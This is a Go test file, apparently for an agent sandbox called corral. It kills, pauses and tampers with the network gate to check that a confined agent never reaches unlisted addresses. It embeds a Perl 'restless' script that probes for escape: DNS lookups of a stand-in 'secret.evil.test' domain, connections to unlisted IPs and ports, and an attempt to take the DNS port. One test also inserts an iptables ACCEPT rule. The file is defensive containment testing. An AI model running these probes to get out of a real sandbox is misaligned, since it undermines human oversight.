@@ -1,0 +1,245 @@
+package engine
+
+import (
+	"fmt"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/corral-sandbox/corral/internal/spec"
+	"github.com/corral-sandbox/corral/test/lab"
+)
+
+// restless is an agent that never stops trying: connections and datagrams to
+// addresses that nobody listed, lookups by way of whoever may answer, and the
+// port of the names server.
+const restless = `
+use Socket;
+$| = 1; $SIG{CHLD} = "IGNORE"; $SIG{PIPE} = "IGNORE";
+print "up\n";
+my $q = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01";
+if (!fork) { while (1) { gethostbyname("secret.evil.test") and print "RESOLVED\n"; select(undef, undef, undef, 0.01) } }
+while (1) {
+	for my $to (["44.10.9.9", 443], ["44.10.9.9", 80], ["44.10.0.66", 53], ["172.30.0.1", 22]) {
+		socket(my $t, PF_INET, SOCK_STREAM, 0); setsockopt($t, SOL_SOCKET, SO_SNDTIMEO, pack("l!l!", 0, 50000));
+		connect($t, sockaddr_in($to->[1], inet_aton($to->[0]))) and print "CONNECTED\n";
+		socket(my $u, PF_INET, SOCK_DGRAM, 0);
+		send($u, $q, 0, sockaddr_in($to->[1], inet_aton($to->[0])));
+	}
+	for my $kind (SOCK_DGRAM, SOCK_STREAM) {
+		socket(my $s, PF_INET, $kind, 0);
+		bind($s, sockaddr_in(53, inet_aton("127.0.0.1"))) and print "BOUND\n";
+	}
+	select(undef, undef, undef, 0.01);
+}
+`
+
+// pid is the first process of a container, as this machine counts.
+func pid(t testing.TB, container string) int {
+	t.Helper()
+	n, err := strconv.Atoi(docker(t, "inspect", "--format", "{{.State.Pid}}", container))
+	if err != nil || n <= 1 {
+		t.Fatalf("process %d: %v", n, err)
+	}
+	return n
+}
+
+// worker is the one child of a gate's first process.
+func worker(t testing.TB, gate string) int {
+	t.Helper()
+	files, err := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", pid(t, gate)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range files {
+		b, _ := os.ReadFile(f)
+		for _, field := range strings.Fields(string(b)) {
+			n, _ := strconv.Atoi(field)
+			if status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", n)); err == nil && strings.Contains(string(status), fmt.Sprintf("Uid:\t%d", spec.WorkerUID)) {
+				return n
+			}
+		}
+	}
+	t.Fatal("there is no worker")
+	return 0
+}
+
+func signal(t testing.TB, pid int, sig syscall.Signal) {
+	t.Helper()
+	if err := syscall.Kill(pid, sig); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// awaitLog waits until a container has said a line n times.
+func awaitLog(t testing.TB, container, line string, n int) {
+	t.Helper()
+	run(t, "timeout", "60", "sh", "-c", fmt.Sprintf("until [ $(docker logs %s 2>&1 | grep -c '%s') -ge %d ]; do :; done", container, line, n))
+}
+
+// Whatever ends a gate, and however: an agent that never stops trying sends not
+// one packet to an address that is not listed, status and verify say what is
+// wrong, and corral up heals it without anybody touching Docker (R031, R023).
+func TestDeath(t *testing.T) {
+	first := project(t, always("death", "[sh]"))
+	first.lab.DNS.Set("api.allowed.test", lab.A("44.10.0.10"))
+	first.lab.Control(t, "corral")
+	capture := first.lab.Capture(t, bridge)
+	asked, heard := len(first.lab.DNS.Queries("secret.evil.test")), len(first.lab.Authority.Queries())
+	t.Cleanup(func() {
+		listed := map[netip.Addr]bool{netip.MustParseAddr("44.10.0.10"): true, lab.NameServer: true}
+		if left := capture.Match(func(p lab.Packet) bool { return !listed[p.Dst] }); len(left) > 0 {
+			t.Errorf("%d packets to unlisted addresses, the first %v", len(left), left[0])
+		}
+		if n := len(first.lab.DNS.Queries("secret.evil.test")) - asked + len(first.lab.Authority.Queries()) - heard; n > 0 {
+			t.Errorf("%d lookups left", n)
+		}
+	})
+	for name, c := range map[string]struct {
+		die    func(t *testing.T, s *sandbox)
+		status string // what status says; where it heals itself, a row of it
+		itself bool   // it heals itself
+		slow   bool   // every question waits as long as it may
+		healed string // what corral up says
+	}{
+		"worker killed": {func(t *testing.T, s *sandbox) {
+			signal(t, worker(t, s.gate()), syscall.SIGKILL)
+			awaitLog(t, s.gate(), "starting another", 1)
+		}, "its worker was replaced", true, false, "is up already"},
+		"worker stopped": {func(t *testing.T, s *sandbox) {
+			signal(t, worker(t, s.gate()), syscall.SIGSTOP)
+			awaitLog(t, s.gate(), "did not answer and was killed", 1)
+		}, "its worker was replaced", true, false, "is up already"},
+		"PID 1 killed": {func(t *testing.T, s *sandbox) {
+			signal(t, pid(t, s.gate()), syscall.SIGKILL)
+			docker(t, "wait", s.gate())
+		}, "no network (gate is gone): it was killed", false, false, "the gate is made anew (it is gone: it was killed), and main with it"},
+		"PID 1 stopped": {func(t *testing.T, s *sandbox) {
+			signal(t, pid(t, s.gate()), syscall.SIGSTOP)
+		}, "gate does not answer", false, true, "the gate is made anew (it does not answer)"},
+		"killed": {func(t *testing.T, s *sandbox) {
+			docker(t, "kill", s.gate())
+		}, "no network (gate is gone): it was killed", false, false, "the gate is made anew"},
+		"asked to end": {func(t *testing.T, s *sandbox) {
+			docker(t, "stop", s.gate())
+		}, "no network (gate is gone)", false, false, "the gate is made anew"},
+		"restarted": {func(t *testing.T, s *sandbox) {
+			docker(t, "restart", s.gate())
+			awaitLog(t, s.gate(), spec.ReadyLine, 2)
+		}, "no network (gate was replaced)", false, false, "main is made anew (its gate was started again)"},
+		"paused": {func(t *testing.T, s *sandbox) {
+			docker(t, "pause", s.gate())
+		}, "the gate is paused", false, false, "gate was paused: it goes on"},
+		"removed": {func(t *testing.T, s *sandbox) {
+			docker(t, "rm", "--force", s.gate())
+		}, "no network (gate is gone)", false, false, "the gate is made anew (it is gone)"},
+		"rules differ": {func(t *testing.T, s *sandbox) {
+			inNamespace(t, s.gate(), "iptables", "-w", "-I", "OUTPUT", "-d", "44.10.0.11", "-j", "ACCEPT")
+			docker(t, "wait", s.gate())
+		}, "no network (gate is gone): re-check failed against existing rules", false, false, "the gate is made anew (it is gone: re-check failed"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			s := project(t, always("death", forever))
+			s.write("restless.pl", restless)
+			s.write("corral.yaml", strings.Replace(always("death", "[perl, "+s.dir+"/restless.pl]"), "egress:", "mounts: {ro: ["+s.dir+"/restless.pl]}\negress:", 1))
+			if r := s.corral("up", "--accept"); r.code != 0 {
+				t.Fatal(r)
+			}
+			awaitLog(t, s.agent(), "up", 1)
+			c.die(t, s)
+			r := s.corral("status")
+			if !strings.Contains(r.out, c.status) || (r.code == 0) != c.itself {
+				t.Errorf("status: %v", r)
+			}
+			if !c.slow {
+				if r := s.corral("verify"); (r.code == 0) != c.itself || !c.itself && !strings.Contains(r.err, strings.Split(c.status, ":")[0]) {
+					t.Errorf("verify: %v", r)
+				}
+			}
+			noCapability(t, s)
+			if c.itself {
+				if said := docker(t, "logs", s.agent()); strings.Contains(said, "BOUND") {
+					t.Error("the agent took the port of the names server")
+				}
+			}
+			if r := s.corral("up"); r.code != 0 || !strings.Contains(r.err, c.healed) || hexID.MatchString(strings.ReplaceAll(r.err, s.id, "")) {
+				t.Errorf("up: %v", r)
+			}
+			if r := s.corral("status"); r.code != 0 {
+				t.Errorf("status after up: %v", r)
+			}
+			noCapability(t, s)
+			if said := docker(t, "logs", s.agent()); regexp.MustCompile("CONNECTED|RESOLVED").MatchString(said) {
+				t.Errorf("the agent got out: %s", said)
+			}
+		})
+	}
+}
+
+// A run says at once that its gate has ended, ends the agent, removes both, and
+// the next run works.
+func TestRunLosesItsGate(t *testing.T) {
+	for name, c := range map[string]struct {
+		die  []string
+		said string
+	}{
+		"killed":    {[]string{"kill"}, "the gate ended (it was killed)"},
+		"stopped":   {[]string{"stop"}, "the gate ended (it was stopped)"},
+		"removed":   {[]string{"rm", "--force"}, "the gate ended (it was"},
+		"restarted": {[]string{"restart", "--time", "1"}, "the gate ended (it was"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			s := project(t, nothing)
+			said := &lines{news: make(chan struct{}, 1)}
+			run, screen := s.begin(said, "run", "--", "bash", "-c", "trap 'echo asked; exit 7' TERM; echo up; sleep infinity & wait")
+			screen.await(t, "up\n")
+			docker(t, append(c.die, s.gate())...)
+			said.await(t, 0, c.said)
+			screen.await(t, "asked\n") // it is ended in order
+			_ = run.Wait()
+			if code := run.ProcessState.ExitCode(); code != 1 {
+				t.Errorf("status %d", code)
+			}
+			if text := said.String(); !strings.Contains(text, "hint: corral run starts both anew") || hexID.MatchString(text) {
+				t.Errorf("said: %s", text)
+			}
+			if left := s.containers(); len(left) > 0 {
+				t.Errorf("left: %v", left)
+			}
+			if r := s.sh("echo well"); r.code != 0 || r.out != "well\n" {
+				t.Errorf("the next run: %v", r)
+			}
+		})
+	}
+}
+
+// On a terminal in raw mode the message is on a line of its own.
+func TestRunLosesItsGateOnATerminal(t *testing.T) {
+	s := project(t, nothing)
+	term, wait := s.onTerminal("run", "--", "bash", "-c", "echo up; exec sleep infinity")
+	term.await(t, "up\r\n")
+	docker(t, "kill", s.gate())
+	term.await(t, "\r\ncorral: the gate ended (it was killed): the agent has no network any more and is ended\r\n")
+	term.await(t, "hint: corral run starts both anew")
+	if code := wait(); code != 1 {
+		t.Errorf("status %d", code)
+	}
+}
+
+// A run whose corral was killed, and whose gate ended then, is nobody's: the
+// next run clears it away (R031).
+func TestRunAfterBothWereLost(t *testing.T) {
+	s := project(t, nothing)
+	s.abandoned("echo up; exec sleep infinity", "up")
+	docker(t, "kill", s.gate())
+	if r := s.sh("echo well"); r.code != 0 || r.out != "well\n" {
+		t.Error(r)
+	}
+}
